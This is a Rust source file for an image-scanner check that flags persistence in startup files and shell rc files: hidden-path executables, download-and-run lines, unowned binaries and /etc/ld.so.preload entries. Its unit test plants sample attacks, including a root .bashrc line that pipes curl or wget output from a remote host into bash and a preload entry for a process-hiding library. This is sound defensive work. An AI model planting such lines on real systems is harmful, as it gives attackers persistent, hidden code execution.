//! Startup files: `/etc/rc.local`, `/etc/init.d/*`, `/etc/profile`,
//! `/etc/profile.d/*`, `/etc/bash.bashrc`, root's and users' shell rc files
//! (what they run, judged like a cron job), and `/etc/ld.so.preload`, where
//! any entry is suspicious: it loads a library into every process.

use super::{CommandIds, info, logical_lines, report_command};
use crate::check::{Check, CheckContext, CheckInfo};
use imgscan_sbom::{Finding, Severity};

/// The startup-file check.
pub struct Startup;

const IDS: CommandIds = CommandIds {
    temp: info(
        "startup.runs-from-tmp",
        Severity::High,
        "a startup or shell rc file runs a program from a temp or hidden place",
    ),
    download: info(
        "startup.download-and-run",
        Severity::High,
        "a startup or shell rc file downloads or decodes code and runs it",
    ),
    unowned: info(
        "startup.runs-unowned",
        Severity::Medium,
        "a startup or shell rc file runs a system-path executable that no installed package owns",
    ),
};
const PRELOAD: CheckInfo = info(
    "preload.ld-so-preload",
    Severity::High,
    "/etc/ld.so.preload loads a library into every process (a classic way to hide a miner)",
);
const INFO: &[CheckInfo] = &[IDS.temp, IDS.download, IDS.unowned, PRELOAD];

const RC_FILES: &[&str] = &[
    ".bashrc",
    ".profile",
    ".bash_profile",
    ".bash_login",
    ".zshrc",
    ".cshrc",
];

impl Check for Startup {
    fn info(&self) -> &'static [CheckInfo] {
        INFO
    }

    fn globs(&self) -> &'static [&'static str] {
        &[
            "etc/rc.local",
            "etc/init.d/*",
            "etc/profile",
            "etc/profile.d/*",
            "etc/bash.bashrc",
            "root/.bashrc",
            "root/.profile",
            "root/.bash_profile",
            "root/.bash_login",
            "root/.zshrc",
            "root/.cshrc",
            "home/*/.bashrc",
            "home/*/.profile",
            "home/*/.bash_profile",
            "home/*/.bash_login",
            "home/*/.zshrc",
            "home/*/.cshrc",
            "etc/ld.so.preload",
        ]
    }

    fn run(&self, ctx: &CheckContext<'_>) -> Vec<Finding> {
        let mut out = Vec::new();
        for path in ctx.paths_where(is_startup_file) {
            let Some(text) = ctx.text(&path) else {
                continue;
            };
            for (number, line) in logical_lines(&text) {
                report_command(
                    ctx,
                    &IDS,
                    "startup file",
                    &path,
                    Some(number),
                    &line,
                    &mut out,
                );
            }
        }
        if let Some(text) = ctx.text(b"etc/ld.so.preload") {
            for (number, line) in logical_lines(&text) {
                out.push(ctx.finding(
                    &PRELOAD,
                    PRELOAD.severity,
                    (b"etc/ld.so.preload", Some(number)),
                    format!("`/etc/ld.so.preload` preloads `{line}` into every process"),
                    line.clone(),
                    "remove /etc/ld.so.preload; no packaged system needs it",
                ));
            }
        }
        out
    }
}

fn is_startup_file(path: &[u8]) -> bool {
    let Ok(path) = std::str::from_utf8(path) else {
        return false;
    };
    let in_dir = |dir: &str| {
        path.strip_prefix(dir)
            .is_some_and(|rest| !rest.is_empty() && !rest.contains('/'))
    };
    let rc = |home: &str| {
        path.strip_prefix(home)
            .is_some_and(|rest| RC_FILES.contains(&rest))
    };
    let user_rc = path
        .strip_prefix("home/")
        .and_then(|rest| rest.split_once('/'))
        .is_some_and(|(_, file)| RC_FILES.contains(&file));
    matches!(path, "etc/rc.local" | "etc/profile" | "etc/bash.bashrc")
        || in_dir("etc/init.d/")
        || in_dir("etc/profile.d/")
        || rc("root/")
        || user_rc
}

#[cfg(test)]
mod tests {
    use super::*;
    use imgscan_sbom::test_tree::MapTree;

    #[test]
    fn planted_startup_entries_are_found() {
        let tree = MapTree::new(&[
            (
                "etc/rc.local",
                "#!/bin/sh -e\n/usr/lib/.cache/systemd-helper &\nexit 0\n",
            ),
            (
                "root/.bashrc",
                "alias ll='ls -l'\n(curl -s http://x/b.sh || wget -qO- http://x/b.sh) | bash >/dev/null 2>&1\n",
            ),
            (
                "etc/ld.so.preload",
                "# hide\n/usr/local/lib/libprocesshider.so\n",
            ),
            ("etc/profile.d/locale.sh", "export LANG=C.UTF-8\n"),
            (
                "home/alice/.profile",
                "if [ -d \"$HOME/bin\" ] ; then\n    PATH=\"$HOME/bin:$PATH\"\nfi\n",
            ),
        ]);
        let found: Vec<(&str, String, Option<u32>)> = Startup
            .run(&CheckContext::new(&tree, &[]))
            .into_iter()
            .map(|f| (f.id, f.path, f.line))
            .collect();
        assert_eq!(
            found,
            [
                ("startup.runs-from-tmp", "/etc/rc.local".into(), Some(2)),
                ("startup.download-and-run", "/root/.bashrc".into(), Some(2)),
                (
                    "preload.ld-so-preload",
                    "/etc/ld.so.preload".into(),
                    Some(2)
                ),
            ]
        );
    }
}
